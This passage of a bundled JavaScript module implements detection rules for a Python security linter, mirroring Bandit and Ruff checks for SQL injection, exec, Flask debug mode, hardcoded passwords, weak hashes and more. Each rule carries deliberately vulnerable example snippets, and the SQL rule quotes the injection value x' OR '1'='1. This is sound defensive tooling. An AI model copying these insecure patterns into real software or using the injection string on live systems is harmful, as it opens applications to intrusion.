const common_1 = __nccwpck_require__(8925);
exports.djangoRawSql = (0, common_1.callRule)({
    id: 'django-raw-sql',
    name: 'DjangoRawSql',
    bandit: 'B611',
    ruff: 'S611',
    severity: 'MEDIUM',
    confidence: 'MEDIUM',
    category: 'injection',
    cwe: [89],
    functions: ['django.db.models.expressions.RawSQL', 'django.db.models.RawSQL'],
    check: (call) => {
        const sql = (0, arguments_1.argumentAt)(call.node, 0, 'sql');
        return sql !== undefined && sql.type !== 'list_splat' && (0, literals_1.stringLiteralValue)(sql) === undefined;
    },
    message: (call) => `${(0, common_1.callName)(call)} with SQL that is not a literal is open to SQL injection; pass values through \`params\``,
    short: 'Django RawSQL with SQL that is not a literal',
    full: 'django RawSQL inserts its SQL text into the query as it is; SQL built at run time is open to SQL injection.',
    title: 'Django `RawSQL` with SQL built at run time',
    why: '`RawSQL(sql, params)` puts `sql` into the query unescaped. Values formatted into it can change the query.',
    example: 'from django.db.models.expressions import RawSQL\n\nqs.annotate(v=RawSQL(f"select col from t where id = {pk}", []))',
    fix: 'Keep the SQL literal with placeholders and pass values in `params`: `RawSQL("select col from t where id = %s", (pk,))`.',
    fixed: 'from django.db.models.expressions import RawSQL\n\nqs.annotate(v=RawSQL("select col from t where id = %s", (pk,)))',
    notReported: ['Literal SQL strings.', 'Positional arguments given only by `*args`.'],
});


/***/ }),

/***/ 8227:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.execUsed = void 0;
/** Bandit B102 / Ruff S102: a call to the builtin `exec`. */
const common_1 = __nccwpck_require__(8925);
exports.execUsed = (0, common_1.callRule)({
    id: 'exec-used',
    name: 'ExecUsed',
    bandit: 'B102',
    ruff: 'S102',
    severity: 'MEDIUM',
    confidence: 'HIGH',
    category: 'injection',
    cwe: [78],
    functions: ['builtins.exec'],
    short: 'exec() runs a string as Python code',
    full: 'The builtin exec runs arbitrary Python statements. If any part of its input comes from outside the program, so does the code it runs.',
    title: 'Use of `exec`',
    why: "`exec` compiles and runs any Python statements it is given, with the program's privileges. Data from a request, a file or a database that reaches it becomes code.",
    example: 'def apply(rule_text):\n    exec(rule_text)',
    fix: 'Replace dynamic code with data: a dictionary of functions, `getattr` on a known object with a checked name, `ast.literal_eval` for literals, or a small parser for the rule language.',
    fixed: 'RULES = {"strip": str.strip, "lower": str.lower}\n\ndef apply(rule_name, text):\n    return RULES[rule_name](text)',
    notReported: ['Functions or methods named `exec` that are not the builtin (a local `def exec`, `cursor.exec(...)`).'],
    message: (call) => `${(0, common_1.callName)(call)} runs a string as Python code`,
});


/***/ }),

/***/ 7927:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.CHMOD_NOT_REPORTED = exports.CHMOD_SPEC = exports.groupExecutable = exports.worldWritable = void 0;
exports.modeValue = modeValue;
exports.chmodModes = chmodModes;
const calls_1 = __nccwpck_require__(4463);
const arguments_1 = __nccwpck_require__(9950);
const literals_1 = __nccwpck_require__(8436);
const common_1 = __nccwpck_require__(8925);
const STAT = {
    S_ISUID: 0o4000,
    S_ISGID: 0o2000,
    S_ISVTX: 0o1000,
    S_ENFMT: 0o2000,
    S_IRWXU: 0o700,
    S_IRUSR: 0o400,
    S_IWUSR: 0o200,
    S_IXUSR: 0o100,
    S_IREAD: 0o400,
    S_IWRITE: 0o200,
    S_IEXEC: 0o100,
    S_IRWXG: 0o70,
    S_IRGRP: 0o40,
    S_IWGRP: 0o20,
    S_IXGRP: 0o10,
    S_IRWXO: 0o7,
    S_IROTH: 0o4,
    S_IWOTH: 0o2,
    S_IXOTH: 0o1,
};
/** Bandit matches any function with `chmod` in its name; Ruff only `os.chmod`. Tendril follows Ruff. */
const FUNCTIONS = ['os.chmod'];
/** The integer value of a constant mode expression, or undefined. */
function modeValue(node, model) {
    const expr = (0, literals_1.unparenthesize)(node);
    switch (expr.type) {
        case 'integer':
            return (0, literals_1.integerValue)(expr);
        case 'identifier':
        case 'attribute': {
            const q = model.resolveAssumed(expr);
            if (q && q.startsWith('stat.') && q.slice(5) in STAT)
                return STAT[q.slice(5)];
            return undefined;
        }
        case 'binary_operator': {
            const op = expr.childForFieldName('operator')?.type;
            const l = expr.childForFieldName('left');
            const r = expr.childForFieldName('right');
            const a = l ? modeValue(l, model) : undefined;
            const b = r ? modeValue(r, model) : undefined;
            if (a === undefined || b === undefined)
                return undefined;
            if (op === '|')
                return a | b;
            if (op === '&')
                return a & b;
            if (op === '+')
                return a + b;
            if (op === '^')
                return a ^ b;
            return undefined;
        }
        default:
            return undefined;
    }
}
/** True when a mode lets every user write the file (the "others write" bit). */
const worldWritable = (mode) => (mode & 0o2) !== 0;
exports.worldWritable = worldWritable;
/** True when a mode lets the file's group execute it (the "group execute" bit). */
const groupExecutable = (mode) => (mode & 0o10) !== 0;
exports.groupExecutable = groupExecutable;
/**
 * `uses` and `create` of a rule reporting `os.chmod` calls whose constant mode `selects`, on the
 * mode, with the message "<call> sets mode `0o...`, <says>".
 */
function chmodModes(selects, says) {
    return {
        uses: [calls_1.calls],
        create(context) {
            return {
                end() {
                    const model = context.analysis(calls_1.calls);
                    for (const call of model.callsToAssumed(FUNCTIONS)) {
                        const modeNode = (0, arguments_1.argumentAt)(call.node, 1, 'mode');
                        if (!modeNode || modeNode.type === 'list_splat')
                            continue;
                        const mode = modeValue(modeNode, model);
                        if (mode === undefined || !selects(mode))
                            continue;
                        context.report(modeNode, `${(0, common_1.callName)(call)} sets mode \`0o${mode.toString(8)}\`, ${says}`);
                    }
                },
            };
        },
    };
}
/** The aliases, grading and documentation the two rules share. */
exports.CHMOD_SPEC = {
    bandit: 'B103',
    ruff: 'S103',
    confidence: 'HIGH',
    category: 'files',
    cwe: [732],
    fix: 'Grant the least access needed: `0o600` for private data, `0o644` for readable files, `0o700`/`0o755` for executables owned by the program.',
    note: '## Why two rules\n\nBandit grades B103 high when the mode is world-writable and medium when it is only group-executable. A code scanning rule has one severity, so Tendril reports the two cases as `world-writable-file-permissions` (high) and `group-executable-file-permissions` (medium); both answer to `B103` and `S103`.',
};
/** The first "not reported" lines of both rules. */
exports.CHMOD_NOT_REPORTED = [
    'Modes that are not constants (a variable, a value read from configuration).',
    '`os.lchmod`, `os.fchmod` and `pathlib.Path.chmod` (only `os.chmod` is checked, as Ruff does).',
];


/***/ }),

/***/ 7640:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.flaskDebugTrue = void 0;
/** Bandit B201 / Ruff S201: a Flask application run with `debug=True`, in a file that imports flask. */
const calls_1 = __nccwpck_require__(4463);
const arguments_1 = __nccwpck_require__(9950);
const literals_1 = __nccwpck_require__(8436);
const common_1 = __nccwpck_require__(8925);
exports.flaskDebugTrue = (0, common_1.securityRule)({
    id: 'flask-debug-true',
    name: 'FlaskDebugTrue',
    bandit: 'B201',
    ruff: 'S201',
    severity: 'HIGH',
    confidence: 'MEDIUM',
    category: 'configuration',
    cwe: [94],
    short: 'Flask app run with debug=True (interactive debugger exposed)',
    full: "An app.run(..., debug=True) call. Flask's debug mode serves the Werkzeug debugger, which lets anyone who reaches an error page run Python code on the server.",
    title: 'A Flask application run in debug mode',
    why: 'With `debug=True`, an unhandled error shows the Werkzeug interactive debugger, a Python console in the browser. Anyone who can reach the server and trigger an error can run code on it.',
    example: 'from flask import Flask\n\napp = Flask(__name__)\napp.run(host="0.0.0.0", debug=True)',
    fix: 'Leave debug off in code (`app.run()`), and turn it on only in development with `flask run --debug` or an environment variable.',
    fixed: 'from flask import Flask\n\napp = Flask(__name__)\napp.run()',
    notReported: [
        'Files that do not import `flask` (as in Bandit).',
        '`debug=` with a value that is not a constant true (a setting read at run time).',
        'Calls to a method named `run` with no `debug=` keyword.',
    ],
    uses: [calls_1.calls],
    create(context) {
        const imports = (0, common_1.importsModule)('flask');
        return {
            ...imports.visitor,
            end() {
                if (!imports.seen())
                    return;
                for (const call of context.analysis(calls_1.calls).calls) {
                    if (call.callee.type !== 'attribute' || call.callee.childForFieldName('attribute')?.text !== 'run')
                        continue;
                    const debug = (0, arguments_1.keywordValue)(call.node, 'debug');
                    if (debug && (0, literals_1.unparenthesize)(debug).type === 'true')
                        context.report(call.callee, '`debug=True` exposes the Werkzeug debugger, which runs code for whoever triggers an error');
                }
            },
        };
    },
});


/***/ }),

/***/ 4116:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.groupExecutableFilePermissions = void 0;
/** Bandit B103 / Ruff S103, medium severity: `os.chmod` with a constant mode that makes the file group-executable. */
const common_1 = __nccwpck_require__(8925);
const file_modes_1 = __nccwpck_require__(7927);
exports.groupExecutableFilePermissions = (0, common_1.securityRule)({
    ...file_modes_1.CHMOD_SPEC,
    id: 'group-executable-file-permissions',
    name: 'GroupExecutableFilePermissions',
    severity: 'MEDIUM',
    short: 'os.chmod makes a file executable by its group',
    full: "os.chmod is called with a constant mode that lets the file's group execute it, wider than most files need.",
    title: 'A group-executable file mode',
    why: 'A mode with the "group execute" bit (`0o010`) lets every member of the file\'s group run it. For data files and most scripts this is wider than needed, and it often comes with other broad bits.',
    example: 'import os\n\nos.chmod(path, 0o750)',
    fixed: 'import os\n\nos.chmod(path, 0o700)',
    notReported: [...file_modes_1.CHMOD_NOT_REPORTED, 'Modes without the group-execute bit (world-writable modes are `world-writable-file-permissions`).'],
    // A world-writable mode is reported by the high-severity rule only.
    ...(0, file_modes_1.chmodModes)((mode) => (0, file_modes_1.groupExecutable)(mode) && !(0, file_modes_1.worldWritable)(mode), 'executable by the group'),
});


/***/ }),

/***/ 5718:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.hardcodedPasswordDefault = void 0;
const common_1 = __nccwpck_require__(8925);
const password_names_1 = __nccwpck_require__(9852);
exports.hardcodedPasswordDefault = (0, common_1.securityRule)({
    ...password_names_1.PASSWORD_SPEC,
    id: 'hardcoded-password-default',
    name: 'HardcodedPasswordDefault',
    bandit: 'B107',
    ruff: 'S107',
    short: 'possible hardcoded password as a parameter default',
    full: 'A function parameter whose name suggests a password, token or secret has a string literal default: callers that omit it silently use a credential written in the source.',
    title: 'A hardcoded password as a default argument',
    why: 'A default value for a `password` or `token` parameter is a credential in the source code, and every caller that forgets the argument uses it without noticing.',
    example: 'def connect(user, password="admin"):\n    ...',
    fixed: 'def connect(user, password):\n    ...',
    create(context) {
        const check = (node) => {
            const name = node.childForFieldName('name')?.text;
            const value = node.childForFieldName('value');
            if (name && value && (0, password_names_1.isPasswordName)(name) && (0, password_names_1.literal)(value)) {
                context.report(value, `possible hardcoded password: the parameter \`${name}\` has a string literal default`);
            }
        };
        return { default_parameter: check, typed_default_parameter: check };
    },
});


/***/ }),

/***/ 5040:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.hardcodedPasswordFuncArg = void 0;
const common_1 = __nccwpck_require__(8925);
const password_names_1 = __nccwpck_require__(9852);
exports.hardcodedPasswordFuncArg = (0, common_1.securityRule)({
    ...password_names_1.PASSWORD_SPEC,
    id: 'hardcoded-password-func-arg',
    name: 'HardcodedPasswordFuncArg',
    bandit: 'B106',
    ruff: 'S106',
    short: 'possible hardcoded password passed as a keyword argument',
    full: 'A call passes a string literal to a keyword argument whose name suggests a password, token or secret (password="...", api_token="...").',
    title: 'A hardcoded password passed to a function',
    why: 'A literal passed as `password=` or `token=` is a credential written in the source, visible to everyone who can read the code and its history.',
    example: 'conn = connect(host="db", user="app", password="hunter2")',
    fixed: 'import os\n\nconn = connect(host="db", user="app", password=os.environ["DB_PASSWORD"])',
    create(context) {
        return {
            keyword_argument(node) {
                const name = node.childForFieldName('name')?.text;
                if (!name || !(0, password_names_1.isPasswordName)(name))
                    return;
                // `node.parent` costs the node's depth: asked only of candidates.
                if (node.parent?.type !== 'argument_list' || node.parent.parent?.type !== 'call')
                    return;
                if ((0, password_names_1.literal)(node.childForFieldName('value'))) {
                    context.report(node, `possible hardcoded password: a string literal is passed as \`${name}=\``);
                }
            },
        };
    },
});


/***/ }),

/***/ 6258:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.hardcodedPasswordString = void 0;
const common_1 = __nccwpck_require__(8925);
const password_names_1 = __nccwpck_require__(9852);
exports.hardcodedPasswordString = (0, common_1.securityRule)({
    ...password_names_1.PASSWORD_SPEC,
    id: 'hardcoded-password-string',
    name: 'HardcodedPasswordString',
    bandit: 'B105',
    ruff: 'S105',
    short: 'possible hardcoded password assigned to or compared with a password-like name',
    full: 'A string literal is assigned to, or compared with, a variable, attribute, dictionary key or subscript whose name suggests a password, token or secret. Secrets in source code are readable by everyone with access to the repository and its history.',
    title: 'A hardcoded password string',
    why: 'A secret written in the source is shared with everyone who can read the repository, its forks, its history and every built artifact, and it cannot be rotated without a code change. Comparing input against a literal password is the same secret in another form.',
    example: 'DB_PASSWORD = "hunter2"\n\nif token == "s3cr3t-admin":\n    grant()',
    fixed: 'import hmac, os\n\nDB_PASSWORD = os.environ["DB_PASSWORD"]\n\nif hmac.compare_digest(token, os.environ["ADMIN_TOKEN"]):\n    grant()',
    create(context) {
        const report = (value, name, how) => {
            context.report(value, `possible hardcoded password: a string literal is ${how} \`${name}\``);
        };
        return {
            assignment(node) {
                // The target's name first: it is cheaper to read than the value, and rarely a candidate.
                const left = node.childForFieldName('left');
                const name = left ? (0, password_names_1.targetName)(left) : undefined;
                if (!name || !(0, password_names_1.isPasswordName)(name))
                    return;
                // Chained assignment `a = b = "x"`: the right side is itself an assignment, handled there.
                const right = node.childForFieldName('right');
                if (right && (0, password_names_1.literal)(right))
                    report(right, name, 'assigned to');
            },
            comparison_operator(node) {
                const operands = node.namedChildren.filter((c) => !!c && c.type !== 'comment');
                for (let i = 0; i + 1 < operands.length; i++) {
                    const [a, b] = [operands[i], operands[i + 1]];
                    const nameA = (0, password_names_1.targetName)(a);
                    if (nameA && (0, password_names_1.isPasswordName)(nameA) && (0, password_names_1.literal)(b))
                        report(b, nameA, 'compared with');
                    const nameB = (0, password_names_1.targetName)(b);
                    if (nameB && (0, password_names_1.isPasswordName)(nameB) && (0, password_names_1.literal)(a))
                        report(a, nameB, 'compared with');
                }
            },
            pair(node) {
                const key = node.childForFieldName('key');
                const value = node.childForFieldName('value');
                const name = key ? (0, password_names_1.literal)(key) : undefined;
                if (name && value && (0, password_names_1.isPasswordName)(name) && (0, password_names_1.literal)(value))
                    report(value, name, 'stored under the key');
            },
        };
    },
});


/***/ }),

/***/ 4826:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.hardcodedSqlExpression = void 0;
exports.builtSql = builtSql;
const literals_1 = __nccwpck_require__(8436);
const common_1 = __nccwpck_require__(8925);
/** One of these words is in every text `SQL` matches (in one piece of it, for a single string). */
const SQL_WORD = /select|delete|insert|replace|update/i;
const SQL = /\b(select\s[\s\S]*\sfrom\s|delete\s+from\s|(insert|replace)\s[\s\S]*\svalues\s|update\s[\s\S]*\sset\s)/i;
/** The literal text of a string, f-string fields replaced by a space; undefined for non-strings. */
function literalText(node) {
    const expr = (0, literals_1.unparenthesize)(node);
    if (expr.type === 'concatenated_string') {
        const parts = expr.namedChildren.filter((c) => c && c.type === 'string').map((c) => literalText(c));
        return parts.some((p) => p === undefined) ? undefined : parts.join('');
    }
    if (expr.type !== 'string')
        return undefined;
    const plain = (0, literals_1.stringLiteralValue)(expr);
    if (plain !== undefined)
        return plain;
    let text = '';
    for (const child of expr.namedChildren) {
        if (!child)
            continue;
        if (child.type === 'string_content')
            text += child.text;
        else if (child.type === 'interpolation')
            text += ' x ';
    }
    return text;
}
function hasInterpolation(node) {
    const expr = (0, literals_1.unparenthesize)(node);
    if (expr.type === 'concatenated_string')
        return expr.namedChildren.some((c) => !!c && hasInterpolation(c));
    return expr.type === 'string' && expr.namedChildren.some((c) => c?.type === 'interpolation');
}
/** Leaves of a `+` chain. */
function plusOperands(node, consumed) {
    // Iterative (a chain of any length must not overflow the stack), left to right.
    const out = [];
    const pending = [node];
    while (pending.length > 0) {
        const expr = (0, literals_1.unparenthesize)(pending.pop());
        if (expr.type === 'binary_operator' && expr.childForFieldName('operator')?.type === '+') {
            consumed?.add(expr.id);
            pending.push(expr.childForFieldName('right'), expr.childForFieldName('left'));
        }
        else {
            consumed?.add(expr.id);
            out.push(expr);
        }
    }
    return out;
}
/** The SQL-looking text of an expression that builds a string at run time, or undefined. */
function builtSql(node, handled = new Set()) {
    // `handled`: nodes already covered by an enclosing `+` chain, `%` or concatenation, which the
    // walk visits first. Asking each node for its parent instead would cost its depth every time.
    if (handled.has(node.id))
        return undefined;
    switch (node.type) {
        case 'binary_operator': {
            const op = node.childForFieldName('operator')?.type;
            if (op === '%') {
                const left = node.childForFieldName('left');
                if (left)
                    handled.add((0, literals_1.unparenthesize)(left).id);
                return left ? literalText(left) : undefined;
            }
            if (op === '+') {
                const operands = plusOperands(node, handled);
                const texts = operands.map((o) => literalText(o));
                if (texts.every((t) => t === undefined))
                    return undefined;
                return texts.map((t) => t ?? ' x ').join('');
            }
            return undefined;
        }
        case 'call': {
            const fn = node.childForFieldName('function');
            if (fn?.type !== 'attribute' || fn.childForFieldName('attribute')?.text !== 'format')
                return undefined;
            const object = fn.childForFieldName('object');
            return object ? literalText(object) : undefined;
        }
        case 'string':
        case 'concatenated_string':
            if (node.type === 'concatenated_string')
                for (const part of node.namedChildren)
                    if (part)
                        handled.add(part.id);
            if (!hasInterpolation(node))
                return undefined;
            return literalText(node);
        default:
            return undefined;
    }
}
exports.hardcodedSqlExpression = (0, common_1.securityRule)({
    id: 'hardcoded-sql-expression',
    name: 'HardcodedSqlExpression',
    bandit: 'B608',
    ruff: 'S608',
    severity: 'MEDIUM',
    confidence: 'LOW',
    category: 'injection',
    cwe: [89],
    short: 'SQL query built with string formatting or concatenation',
    full: 'A string that looks like an SQL statement (SELECT ... FROM, INSERT ... VALUES, UPDATE ... SET, DELETE FROM) is built with %, +, .format() or an f-string. Values pasted into SQL text can change the query (SQL injection).',
    title: 'SQL built from strings',
    why: "When values are pasted into SQL text, quotes and keywords inside them become part of the query: `name = \"x' OR '1'='1\"` turns a lookup into a dump of the table. The database cannot tell the intended query from the injected one.",
    example: 'cursor.execute("SELECT * FROM users WHERE name = \'%s\'" % name)',
    fix: 'Pass values as query parameters: `cursor.execute("SELECT * FROM users WHERE name = %s", (name,))` (the placeholder depends on the driver), or use a query builder/ORM. Table and column names cannot be parameters: check them against a fixed list.',
    fixed: 'cursor.execute("SELECT * FROM users WHERE name = %s", (name,))',
    notReported: [
        'SQL strings that are single literals (a `+` of literals is reported, as Ruff does: it is how queries grow variable parts).',
        'Strings that do not look like SQL statements (the match is a pattern, so some false positives and misses are expected: Bandit gives this check low confidence, and Tendril keeps that precision for every case).',
    ],
    create(context) {
        const handled = new Set();
        const check = (node) => {
            const text = builtSql(node, handled);
            if (text !== undefined && SQL.test(text))
                context.report(node, 'possible SQL injection: a query is built from strings; pass values as query parameters');
        };
        // Calls and single strings that cannot build a query are told from their source text alone
        // (`builtSql` marks nothing as handled for those two kinds, so skipping them changes nothing
        // else): a call needs `.format`; a string needs a `{}` field and, when it spells no escape,
        // one of the query's words.
        return {
            binary_operator: check,
            concatenated_string: check,
            call(node) {
                if (context.textOf(node).includes('format'))
                    check(node);
            },
            string(node) {
                const source = context.textOf(node);
                if (source.includes('{') && (source.includes('\\') || SQL_WORD.test(source)))
                    check(node);
            },
        };
    },
});


/***/ }),

/***/ 4032:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.hardcodedTmpDirectory = void 0;
/** Bandit B108 / Ruff S108: a string literal naming a path in a shared temporary directory. */
const common_1 = __nccwpck_require__(8925);
const string_literals_1 = __nccwpck_require__(3694);
const TMP_PREFIXES = ['/tmp', '/var/tmp', '/dev/shm'];
exports.hardcodedTmpDirectory = (0, common_1.securityRule)({
    id: 'hardcoded-tmp-directory',
    name: 'HardcodedTmpDirectory',
    bandit: 'B108',
    ruff: 'S108',
    severity: 'MEDIUM',
    confidence: 'MEDIUM',
    category: 'files',
    cwe: [377],
    short: 'hardcoded path in a shared temporary directory (/tmp, /var/tmp, /dev/shm)',
    full: "A string literal naming a path under /tmp, /var/tmp or /dev/shm. Every user of the machine can create files there, so a fixed name can be taken over in advance (a symlink or a file with the attacker's content).",
    title: 'A hardcoded path in a shared temporary directory',
    why: "Shared temporary directories are writable by every local user. A program that uses a fixed, predictable name there can be tricked: another user creates that file first, or a symlink to a file the program may write, and the program reads the attacker's data or overwrites the target.",
    example: 'with open("/tmp/report.csv", "w") as f:\n    f.write(data)',
    fix: 'Use the `tempfile` module (`NamedTemporaryFile`, `mkstemp`, `TemporaryDirectory`), which picks an unpredictable name and creates it atomically with private permissions.',
    fixed: 'import tempfile\n\nwith tempfile.NamedTemporaryFile("w", suffix=".csv", delete=False) as f:\n    f.write(data)',
    notReported: ['Paths built at run time, and paths outside `/tmp`, `/var/tmp` and `/dev/shm`.'],
    create(context) {
        return (0, string_literals_1.literalStrings)(context, TMP_PREFIXES, (node, value) => {
            if (TMP_PREFIXES.some((p) => value.startsWith(p))) {
                context.report(node, 'hardcoded path in a shared temporary directory; use the tempfile module');
            }
        });
    },
});


/***/ }),

/***/ 2009:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.huggingfaceUnpinnedDownload = void 0;
const calls_1 = __nccwpck_require__(4463);
const arguments_1 = __nccwpck_require__(9950);
const literals_1 = __nccwpck_require__(8436);
const common_1 = __nccwpck_require__(8925);
const HF_FUNCTIONS = ['huggingface_hub.hf_hub_download', 'huggingface_hub.snapshot_download', 'datasets.load_dataset'];
/** True for a revision that names a fixed commit (7 to 64 hex digits). */
function pinned(node) {
    if (!node)
        return false;
    const value = (0, literals_1.stringLiteralValue)(node);
    return value !== undefined && /^[0-9a-f]{7,64}$/i.test(value);
}
exports.huggingfaceUnpinnedDownload = (0, common_1.securityRule)({
    id: 'huggingface-unpinned-download',
    name: 'HuggingfaceUnpinnedDownload',
    bandit: 'B615',
    severity: 'MEDIUM',
    confidence: 'HIGH',
    category: 'supply-chain',
    cwe: [494],
    short: 'Hugging Face download not pinned to a commit revision',
    full: 'A model or dataset is downloaded from the Hugging Face Hub (from_pretrained, hf_hub_download, snapshot_download, load_dataset) without revision= set to a commit hash, so whatever the repository holds at run time is used.',
    title: 'An unpinned Hugging Face download',
    why: "Without a pinned `revision`, every run downloads the repository's current state. If the repository is changed or taken over, the program loads the new files, which for pickle-based models means running their code.",
    example: 'from transformers import AutoModel\n\nmodel = AutoModel.from_pretrained("org/model")',
    fix: 'Pin a commit: `AutoModel.from_pretrained("org/model", revision="<commit sha>")`, and prefer safetensors weights.',
    fixed: 'from transformers import AutoModel\n\nmodel = AutoModel.from_pretrained("org/model", revision="3f2a9c1d5e7b8a6f4c2d0e9b1a3c5e7f9d2b4a6c")',
    notReported: [
        '`revision=` set to a literal commit hash (7 to 64 hexadecimal digits).',
        'Files that import none of `transformers`, `huggingface_hub` and `datasets`.',
        'Local paths are not told apart from Hub names: a `from_pretrained("./dir")` is reported.',
    ],
    uses: [calls_1.calls],
    create(context) {
        let imports = false;
        const imported = (node) => {
            if (/\b(transformers|huggingface_hub|datasets)\b/.test(node.text))
                imports = true;
        };
        return {
            import_statement: imported,
            import_from_statement: imported,
            end() {
                if (!imports)
                    return;
                for (const call of context.analysis(calls_1.calls).calls) {
                    const isHub = call.assumedName !== undefined && HF_FUNCTIONS.includes(call.assumedName);
                    const isPretrained = call.callee.type === 'attribute' && call.callee.childForFieldName('attribute')?.text === 'from_pretrained';
                    if (!isHub && !isPretrained)
                        continue;
                    if (pinned((0, arguments_1.keywordValue)(call.node, 'revision')))
                        continue;
                    context.report(call.callee, `${(0, common_1.callName)(call)} is not pinned to a commit with \`revision=\`: the files used can change under the program`);
                }
            },
        };
    },
});


/***/ }),

/***/ 673:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.insecureHashlibFunction = void 0;
const arguments_1 = __nccwpck_require__(9950);
const literals_1 = __nccwpck_require__(8436);
const common_1 = __nccwpck_require__(8925);
const INSECURE_HASHES = new Set(['md4', 'md5', 'sha', 'sha1', 'md2']);
/** `usedforsecurity=False` written as a constant: the hash is declared non-cryptographic. */
function notForSecurity(call) {
    const value = (0, arguments_1.keywordValue)(call.node, 'usedforsecurity');
    return value !== undefined && (0, literals_1.truthiness)(value) === false;
}
exports.insecureHashlibFunction = (0, common_1.callRule)({
    id: 'insecure-hashlib-function',
    name: 'InsecureHashlibFunction',
    bandit: 'B324',
    ruff: 'S324',
    severity: 'HIGH',
    confidence: 'HIGH',
    category: 'cryptography',
    cwe: [327],
    functions: ['hashlib.new', ...(0, common_1.qualify)('hashlib', 'md4 md5 sha sha1')],
    check: (call) => {
        if (notForSecurity(call))
            return false;
        if (call.assumedName !== 'hashlib.new')
            return true;
        const name = (0, arguments_1.argumentAt)(call.node, 0, 'name');
        const value = name ? (0, literals_1.stringLiteralValue)(name) : undefined;
        return value !== undefined && INSECURE_HASHES.has(value.toLowerCase()) ? name : false;
    },
    message: (call) => `${(0, common_1.callName)(call)} uses a broken hash algorithm; pass \`usedforsecurity=False\` if it is not used for security, or use SHA-256`,
    short: 'hashlib with MD4, MD5 or SHA-1 used for security',
    full: 'hashlib is called for MD4, MD5 or SHA-1 (directly or through hashlib.new) without usedforsecurity=False. These algorithms have practical collision attacks and must not protect integrity or passwords.',
    title: 'A broken hash algorithm from hashlib',
    why: 'MD4, MD5 and SHA-1 are broken for security purposes: collisions can be made on demand, and they are fast enough to brute-force passwords. Python lets code declare a non-security use with `usedforsecurity=False` (3.9+).',
    example: 'import hashlib\n\nsignature = hashlib.md5(secret + body).hexdigest()',
    fix: 'Use `hashlib.sha256` (or `hmac` with SHA-256 for message authentication, `hashlib.scrypt` for passwords). When the hash is only a checksum or cache key, say so: `hashlib.md5(data, usedforsecurity=False)`.',
    fixed: 'import hashlib, hmac\n\nsignature = hmac.new(secret, body, hashlib.sha256).hexdigest()',
    notReported: ['`usedforsecurity=False`.', '`hashlib.new(name)` where the name is not a literal naming a broken algorithm.', 'SHA-2, SHA-3 and BLAKE2.'],
});


/***/ }),

/***/ 5033:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.jinja2AutoescapeFalse = void 0;
const arguments_1 = __nccwpck_require__(9950);
const literals_1 = __nccwpck_require__(8436);
const common_1 = __nccwpck_require__(8925);
exports.jinja2AutoescapeFalse = (0, common_1.callRule)({
    id: 'jinja2-autoescape-false',
    name: 'Jinja2AutoescapeFalse',
    bandit: 'B701',
    ruff: 'S701',
    severity: 'HIGH',
    confidence: 'HIGH',
    category: 'xss',
    cwe: [94, 79],
    functions: ['jinja2.Environment', 'jinja2.environment.Environment'],
    check: (call, model) => {
        const value = (0, arguments_1.keywordValue)(call.node, 'autoescape');
        if (!value)
            return !call.args?.namedChildren.some((c) => c?.type === 'dictionary_splat');
        const expr = (0, literals_1.unparenthesize)(value);
        if ((0, literals_1.truthiness)(expr) === true)
            return false;
        if ((0, literals_1.truthiness)(expr) === false)
            return (0, arguments_1.keywordArgument)(call.node, 'autoescape');
        if (expr.type === 'call') {
            const fn = expr.childForFieldName('function');
            const q = fn ? model.resolveAssumed(fn) : undefined;
            if (q === 'jinja2.select_autoescape' || fn?.text === 'select_autoescape' || fn?.text.endsWith('.select_autoescape'))
                return false;
        }
        return (0, arguments_1.keywordArgument)(call.node, 'autoescape');
    },
    message: (call) => `${(0, common_1.callName)(call)} without \`autoescape=True\` (or \`select_autoescape()\`) renders values unescaped: cross-site scripting`,
    short: 'Jinja2 environment without autoescaping',
    full: 'A jinja2.Environment is created with autoescape missing or false, so values rendered into HTML templates are not escaped and can inject script (XSS).',
    title: 'Jinja2 autoescaping turned off',
    why: "Jinja2 does not escape by default. Every `{{ value }}` in an HTML template then reaches the page as markup, so a user-supplied value containing `<script>` runs in other users' browsers.",
    example: 'import jinja2\n\nenv = jinja2.Environment(loader=jinja2.FileSystemLoader("templates"))',
    fix: 'Create the environment with `autoescape=jinja2.select_autoescape()` (escapes HTML and XML templates) or `autoescape=True`.',
    fixed: 'import jinja2\n\nenv = jinja2.Environment(loader=jinja2.FileSystemLoader("templates"), autoescape=jinja2.select_autoescape())',
    notReported: [
        '`autoescape=True` or another true constant, and `autoescape=select_autoescape(...)`.',
        'Calls passing `**kwargs` without `autoescape=`.',
        'Bandit gives a non-constant `autoescape=` medium confidence; this rule reports it with the same high severity and keeps one precision for the rule.',
    ],
});


/***/ }),

/***/ 7538:
/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.generatedKeys = generatedKeys;
const arguments_1 = __nccwpck_require__(9950);
const literals_1 = __nccwpck_require__(8436);
const HAZMAT = 'cryptography.hazmat.primitives.asymmetric';
const FUNCTIONS = {
    [`${HAZMAT}.dsa.generate_private_key`]: { kind: 'DSA', index: 0, keyword: 'key_size' },
    [`${HAZMAT}.rsa.generate_private_key`]: { kind: 'RSA', index: 1, keyword: 'key_size' },
    [`${HAZMAT}.ec.generate_private_key`]: { kind: 'EC', index: 0, keyword: 'curve' },
